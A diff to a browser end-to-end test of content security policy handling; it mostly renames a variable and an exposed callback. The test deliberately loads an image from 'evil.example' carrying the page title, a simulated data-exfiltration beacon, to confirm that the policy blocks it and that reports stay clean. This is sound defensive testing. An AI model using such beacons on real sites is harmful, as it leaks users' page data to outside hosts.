@@ -128,8 +128,8 @@ test('no page violates its content security policy, and violations are reported'
   expect(refused).toEqual([])
   await page.goto('/app/dashboard')
   // Tools don't record streamed request bodies, so capture it when it is sent.
-  const told: { body: string; status: number }[] = []
-  await page.exposeFunction('tellTest', (body: string, status: number) => told.push({ body, status }))
+  const received: { body: string; status: number }[] = []
+  await page.exposeFunction('reportToTest', (body: string, status: number) => received.push({ body, status }))
   await page.evaluate(() => {
     const plain = window.fetch
     window.fetch = async (...given) => {
@@ -137,7 +137,10 @@ test('no page violates its content security policy, and violations are reported'
       const body = request.url.includes('securityLog') ? await request.clone().text() : ''
       const response = await plain(request)
       if (body.includes('csp:violation'))
-        (window as unknown as { tellTest: (body: string, status: number) => void }).tellTest(body, response.status)
+        (window as unknown as { reportToTest: (body: string, status: number) => void }).reportToTest(
+          body,
+          response.status,
+        )
       return response
     }
   })
@@ -148,11 +151,11 @@ test('no page violates its content security policy, and violations are reported'
       image.src = `https://evil.example/${document.title}${performance.now()}.png`
       document.body.append(image)
     })
-    return told.length
+    return received.length
   }
   await expect.poll(breakOne, { intervals: [1000], timeout: 45_000 }).toBeGreaterThan(0)
-  expect(told[0]?.status).toBe(200)
-  expect(told[0]?.body).not.toMatch(/evil|Openhour/)
+  expect(received[0]?.status).toBe(200)
+  expect(received[0]?.body).not.toMatch(/evil|Openhour/)
 })
 
 test('signed out elsewhere while typing: the last text is kept for the same person only', async ({
